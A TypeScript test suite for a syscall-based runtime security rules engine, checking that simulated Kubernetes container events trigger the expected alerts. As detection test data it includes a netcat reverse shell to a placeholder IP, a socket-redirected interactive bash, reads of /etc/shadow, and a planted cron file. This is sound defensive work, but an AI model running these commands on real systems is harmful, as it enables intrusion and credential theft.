import t from 'tap'
import { readFileSync } from 'node:fs'
import { parse } from 'yaml'
import { loadRules, type Ruleset } from '../../src/rules/index.ts'
import type { Alert } from '../../src/events/index.ts'
import { syscallSource } from '../../src/syscall/fields/index.ts'
import { createEnricher, type Enricher } from '../../src/syscall/enrich.ts'
import { userDbFrom } from '../../src/syscall/state/users.ts'
import { K8sIndex } from '../../src/k8s/metadata.ts'
import type { SyscallRecord } from '../../src/syscall/record.ts'
import { fakeProc, rec, HEX_A } from '../syscall/state/fake-proc.ts'

const RULES = readFileSync(new URL('../../rules/syscall_rules.yaml', import.meta.url), 'utf8')
// the community seed rule ships as an example, not among the defaults (it floods a healthy cluster)
const SEED_EXAMPLE = readFileSync(new URL('../../examples/rules/kubernetes_outbound_connection.yaml', import.meta.url), 'utf8')
const CID = HEX_A

function load (withSeed = true): Ruleset {
  const inputs = [{ name: 'syscall_rules.yaml', content: RULES }]
  if (withSeed) inputs.push({ name: 'kubernetes_outbound_connection.yaml', content: SEED_EXAMPLE })
  const r = loadRules(inputs, { sources: [syscallSource], ruleMatching: 'all', hostname: 'node-1' })
  if (!r.ok || r.ruleset === undefined) throw new Error(JSON.stringify(r.errors))
  return r.ruleset
}

/**
 * A node with: init (1), containerd-shim (10) and, in container CID of pod testkatz/nginx, a
 * bash (20) on a terminal; plus a host bash (30) without terminal.
 */
function node (t: { teardown(fn: () => void): void }, nsLabels: Record<string, string> = {}): Enricher {
  const cg = `0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-podu1.slice/cri-containerd-${CID}.scope\n`
  const fp = fakeProc([
    { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], cwd: '/' },
    { pid: 10, ppid: 1, comm: 'containerd-shim', argv: ['containerd-shim'], cwd: '/' },
    { pid: 20, ppid: 10, comm: 'bash', argv: ['bash'], cwd: '/', tty: 34816, cgroup: cg },
    { pid: 30, ppid: 1, comm: 'bash', argv: ['bash'], cwd: '/root' }
  ])
  t.teardown(fp.cleanup)
  const k8s = new K8sIndex()
  k8s.upsertNamespace({ metadata: { name: 'testkatz', labels: nsLabels } })
  k8s.upsertPod({
    metadata: { name: 'nginx', namespace: 'testkatz', uid: 'u1' },
    spec: { containers: [{ name: 'nginx', image: 'nginx:1.25' }] },
    status: { containerStatuses: [{ name: 'nginx', containerID: `containerd://${CID}` }] }
  })
  const users = userDbFrom([{ name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash' }], [{ name: 'root', gid: 0 }])
  return createEnricher({ procRoot: fp.root, users, k8s, hostname: 'node-1' })
}

function run (rs: Ruleset, en: Enricher, records: SyscallRecord[]): Alert[] {
  const out: Alert[] = []
  for (const r of records) rs.evaluate('syscall', en.enrich(r), (a) => out.push(a))
  return out
}
const rules = (alerts: Alert[]) => alerts.map((a) => a.rule)

/** fork from `parent`, then exec `argv` in the child; the child's records carry the container id */
function spawn (parent: number, child: number, argv: string[], exepath: string, containerId = ''): SyscallRecord[] {
  return [
    rec('clone', { pid: parent, tid: parent, res: child, containerId, args: { flags: 0x01200011 } }),
    rec('execve', { pid: child, tid: child, ppid: parent, containerId, comm: argv[0]!.split('/').pop()!.slice(0, 15), argv, args: { filename: exepath, exe: argv[0], args: argv.slice(1).join(' '), cwd: '/' } })
  ]
}

t.test('the default syscall rules load without errors or warnings', async (t) => {
  const r = loadRules([{ name: 'syscall_rules.yaml', content: RULES }], { sources: [syscallSource] })
  t.equal(r.ok, true)
  t.same(r.errors, [])
  t.same(r.warnings, [])
  // 7 since the community outbound-connection rule moved to examples/ (it was the 8th)
  t.equal(r.ruleset?.activeCount('syscall'), 7)
  t.notOk(r.ruleset?.rules.some((x) => x.name === 'kubernetes outbound connection'), 'the flooding community rule is not a default')
})

t.test('the shipped example is the seed rule verbatim, and loads after the defaults', async (t) => {
  const seedDoc = readFileSync(new URL('../../../shared/reference/seed-examples.md', import.meta.url), 'utf8')
  const block = /## A custom syscall rule[\s\S]*?```yaml\n([\s\S]*?)```/.exec(seedDoc)?.[1]
  t.ok(block, 'the seed block is found in ../shared/reference/seed-examples.md')
  t.same(parse(SEED_EXAMPLE), parse(block ?? ''), 'same items as the seed')
  t.ok(SEED_EXAMPLE.includes((block ?? '').trim()), 'byte for byte, comments aside')
  t.same(load().rules.filter((x) => x.name === 'kubernetes outbound connection').map((x) => x.enabled), [true])
})

t.test('interactive shell in a container', async (t) => {
  const rs = load()
  const en = node(t)
  const hit = run(rs, en, spawn(20, 21, ['sh'], '/bin/sh', CID))
  t.same(rules(hit), ['Interactive shell in a container'])
  t.match(hit[0]?.message, /container_id=aaaaaaaa0123 container_name=nginx image=nginx pod=nginx namespace=testkatz/)
  t.same(rules(run(rs, en, spawn(30, 31, ['sh'], '/bin/sh'))), [], 'a host shell is not in a container')
  t.same(rules(run(rs, en, spawn(20, 22, ['nginx', '-g', 'daemon off;'], '/usr/sbin/nginx', CID))), [], 'not a shell')
})

t.test('writes below /etc and into binary directories', async (t) => {
  const rs = load()
  const en = node(t)
  const etc = run(rs, en, [rec('openat', { pid: 30, res: 3, args: { dirfd: -100, name: '/etc/cron.d/evil', flags: 0o101 } })])
  t.same(rules(etc), ['Write to a file below /etc'])
  t.match(etc[0]?.message, /file=\/etc\/cron\.d\/evil user=root process=bash/)
  const bin = run(rs, en, [rec('openat', { pid: 30, res: 4, args: { dirfd: -100, name: 'ls', flags: 0o1101 } })])
  t.same(rules(bin), [], 'relative to /root: not a binary dir')
  const planted = run(rs, en, [rec('creat', { pid: 30, res: 5, args: { name: '/usr/local/bin/kubectl', mode: 0o755 } })])
  t.same(rules(planted), ['Write to a binary directory'])
  t.same(rules(run(rs, en, [rec('openat', { pid: 30, res: 6, args: { dirfd: -100, name: '/etc/hosts', flags: 0 } })])), [], 'read-only open')
  t.same(rules(run(rs, en, [rec('openat', { pid: 30, res: -13, args: { dirfd: -100, name: '/etc/passwd', flags: 1 } })])), [], 'failed open')
  run(rs, en, spawn(30, 32, ['dpkg', '-i', 'x.deb'], '/usr/bin/dpkg'))
  t.same(rules(run(rs, en, [rec('openat', { pid: 32, ppid: 30, res: 3, args: { dirfd: -100, name: '/usr/bin/x', flags: 0o101 } })])), [], 'the package manager may write')
})

t.test('read of a credentials file', async (t) => {
  const rs = load()
  const en = node(t)
  run(rs, en, spawn(30, 33, ['cat', '/etc/shadow'], '/usr/bin/cat'))
  const hit = run(rs, en, [rec('openat', { pid: 33, ppid: 30, res: 3, args: { dirfd: -100, name: '/etc/shadow', flags: 0 } })])
  t.same(rules(hit), ['Read of a credentials file'])
  t.match(hit[0]?.message, /process=cat cmdline=cat \/etc\/shadow parent=bash gparent=systemd/)
  t.same(rules(run(rs, en, [rec('openat', { pid: 33, ppid: 30, res: 4, args: { dirfd: -100, name: '/etc/sudoers.d/admins', flags: 0 } })])), ['Read of a credentials file'])
  t.same(rules(run(rs, en, [rec('openat', { pid: 33, ppid: 30, res: 5, args: { dirfd: -100, name: '/etc/passwd', flags: 0 } })])), [], '/etc/passwd is world-readable by design')
  run(rs, en, spawn(30, 34, ['sshd', '-D'], '/usr/sbin/sshd'))
  t.same(rules(run(rs, en, [rec('openat', { pid: 34, ppid: 30, res: 3, args: { dirfd: -100, name: '/etc/shadow', flags: 0 } })])), [], 'sshd reads shadow')
})

t.test('package manager in a container', async (t) => {
  const rs = load()
  const en = node(t)
  const hit = run(rs, en, spawn(20, 23, ['apt-get', 'install', '-y', 'nmap'], '/usr/bin/apt-get', CID))
  t.same(rules(hit), ['Package manager run in a container'])
  t.same(rules(run(rs, en, spawn(30, 35, ['apt-get', 'update'], '/usr/bin/apt-get'))), [], 'on the host it is maintenance')
})

t.test('reverse shells: network stdio, netcat -e', async (t) => {
  const rs = load()
  const en = node(t)
  // a host process connects out, dup2s the socket onto 0 and 1, then execs a shell
  run(rs, en, [
    rec('clone', { pid: 30, res: 40, args: { flags: 0x01200011 } }),
    rec('socket', { pid: 40, ppid: 30, res: 3, args: { fd: 3, domain: 2, type: 1, proto: 0 } }),
    rec('connect', { pid: 40, ppid: 30, res: 0, args: { fd: 3, addr: '203.0.113.7:4444', family: 'ipv4', l4proto: 'tcp', lip: '10.0.0.5', lport: 50000, rip: '203.0.113.7', rport: 4444 } }),
    rec('dup2', { pid: 40, ppid: 30, res: 0, args: { oldfd: 3, newfd: 0 } }),
    rec('dup2', { pid: 40, ppid: 30, res: 1, args: { oldfd: 3, newfd: 1 } })
  ])
  const hit = run(rs, en, [rec('execve', { pid: 40, ppid: 30, comm: 'bash', argv: ['bash', '-i'], args: { filename: '/bin/bash', exe: 'bash', args: '-i', cwd: '/' } })])
  t.same(rules(hit), ['Shell with network standard input or output'])
  t.match(hit[0]?.message, /stdin=10\.0\.0\.5:50000->203\.0\.113\.7:4444/)
  // a shell whose stdio are files is fine
  run(rs, en, [rec('clone', { pid: 30, res: 41, args: { flags: 0x01200011 } }), rec('openat', { pid: 41, ppid: 30, res: 0, args: { dirfd: -100, name: '/dev/null', flags: 0 } })])
  t.same(rules(run(rs, en, [rec('execve', { pid: 41, ppid: 30, comm: 'bash', argv: ['bash', 'job.sh'], args: { filename: '/bin/bash', exe: 'bash', args: 'job.sh' } })])), [])

  t.same(rules(run(rs, en, spawn(30, 42, ['nc', '-e', '/bin/sh', '203.0.113.7', '4444'], '/usr/bin/nc'))), ['Netcat run with a command to execute'])
  t.same(rules(run(rs, en, spawn(30, 43, ['ncat', '--sh-exec', 'id', 'h', '1'], '/usr/bin/ncat'))), ['Netcat run with a command to execute'])
  t.same(rules(run(rs, en, spawn(30, 44, ['nc', '-z', 'db', '5432'], '/usr/bin/nc'))), [], 'a port check')
})

t.test('the seed outbound-connection rule renders the documented line', async (t) => {
  const rs = load()
  const en = node(t)
  const curl = spawn(20, 24, ['curl', 'http://192.168.0.1/'], '/usr/bin/curl', CID)
  run(rs, en, curl)
  const connect = (over: Partial<SyscallRecord>, args: SyscallRecord['args']) => rec('connect', { pid: 24, ppid: 20, containerId: CID, ...over, args })
  const out = run(rs, en, [connect({ res: -115 }, { fd: 3, addr: '192.168.0.1:80', family: 'ipv4', l4proto: 'tcp', lip: '172.16.204.12', lport: 43210, rip: '192.168.0.1', rport: 80 })])
  t.same(rules(out), ['kubernetes outbound connection'])
  t.equal(out[0]?.message, 'Outbound network traffic connection from a Pod: (pod=nginx namespace=testkatz srcip=172.16.204.12 dstip=192.168.0.1 dstport=80 proto=tcp procname=curl)')
  t.equal(out[0]?.priority, 4)

  t.same(rules(run(rs, en, [connect({ res: 0 }, { fd: 4, family: 'ipv4', l4proto: 'tcp', lip: '127.0.0.1', lport: 1, rip: '127.0.0.1', rport: 80 })])), [], 'loopback')
  t.same(rules(run(rs, en, [connect({ res: -111 }, { fd: 5, addr: '192.168.0.1:81', family: 'ipv4', l4proto: 'tcp', lip: '172.16.204.12', lport: 2, rip: '192.168.0.1', rport: 81 })])), [], 'refused')
  t.same(rules(run(rs, en, [rec('connect', { pid: 30, res: 0, args: { fd: 3, family: 'ipv4', l4proto: 'tcp', lip: '10.0.0.5', lport: 3, rip: '192.168.0.1', rport: 80 } })])), [], 'host process: no namespace')

  const udp = (fd: number, src: string, dst: string) => rec('sendto', { pid: 24, ppid: 20, containerId: CID, res: 40, args: { fd, size: 40, addr: `${dst}:53`, family: 'ipv4', l4proto: 'udp', lip: src, lport: 5353, rip: '0.0.0.0', rport: 0 } })
  // libsinsp compare_ip: `fd.ip != "0.0.0.0"` needs BOTH ends to differ, so a datagram from an
  // unbound socket (source 0.0.0.0) never passes outbound_corp, in Falco as here
  t.same(rules(run(rs, en, [udp(6, '0.0.0.0', '8.8.8.8')])), [], 'unbound source 0.0.0.0: fd.ip != "0.0.0.0" is false')
  t.same(rules(run(rs, en, [udp(7, '172.16.204.12', '8.8.8.8')])), ['kubernetes outbound connection'], 'bound source: first datagram to a new peer')
  t.same(rules(run(rs, en, [udp(7, '172.16.204.12', '8.8.8.8')])), [], 'same peer again: fd name unchanged')
})

t.test('namespaces labelled network=green or blue are not monitored', async (t) => {
  const rs = load()
  for (const [labels, expected] of [[{ network: 'green' }, 0], [{ network: 'blue' }, 0], [{ network: 'red' }, 1], [{}, 1]] as const) {
    const en = node(t, labels)
    run(rs, en, spawn(20, 24, ['curl'], '/usr/bin/curl', CID))
    const out = run(rs, en, [rec('connect', { pid: 24, ppid: 20, containerId: CID, res: 0, args: { fd: 3, family: 'ipv4', l4proto: 'tcp', lip: '172.16.204.12', lport: 4, rip: '192.168.0.1', rport: 80 } })])
    t.equal(out.length, expected, JSON.stringify(labels))
  }
})
